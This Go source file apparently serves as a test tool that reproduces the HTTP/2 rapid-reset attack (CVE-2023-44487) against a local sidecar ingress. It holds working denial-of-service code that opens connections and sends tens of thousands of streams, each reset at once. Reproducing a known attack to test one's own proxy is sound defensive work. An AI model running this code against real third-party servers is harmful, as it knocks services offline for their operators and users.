package main

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// runRapidReset opens h2c connections and on each sends streams it resets
// at once (HEADERS, then RST_STREAM CANCEL): the rapid-reset pattern
// (CVE-2023-44487), as issue 17 sent it to a sidecar's ingress.
func runRapidReset(args []string) error {
	fs := flag.NewFlagSet("rapidreset", flag.ContinueOnError)
	addr := fs.String("addr", "127.0.0.1:15006", "address to connect to")
	streams := fs.Int("streams", 60000, "streams in all")
	perConn := fs.Int("per-conn", 1000, "streams per connection")
	if err := fs.Parse(args); err != nil {
		return err
	}
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "x"}, {Name: ":path", Value: "/"}} {
		if err := enc.WriteField(f); err != nil {
			return err
		}
	}
	block := hb.Bytes()
	sent, conns, cut := 0, 0, 0
	start := time.Now()
	for sent < *streams {
		c, err := net.Dial("tcp", *addr)
		if err != nil {
			return fmt.Errorf("rapidreset: %w", err)
		}
		conns++
		go func() { _, _ = io.Copy(io.Discard, c) }() // the server's frames are not looked at
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return fmt.Errorf("rapidreset: %w", err)
		}
		fr := http2.NewFramer(c, nil)
		if err := fr.WriteSettings(); err != nil {
			return fmt.Errorf("rapidreset: %w", err)
		}
		for i := 0; i < *perConn && sent < *streams; i++ {
			id := uint32(2*i + 1)
			if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}) != nil ||
				fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
				cut++ // the server closed the connection
				break
			}
			sent++
		}
		_ = c.Close() // done with it
	}
	fmt.Printf("%d rapid-reset streams on %d connections (%d cut short by the server) in %v\n", sent, conns, cut, time.Since(start).Round(time.Millisecond))
	return nil
}
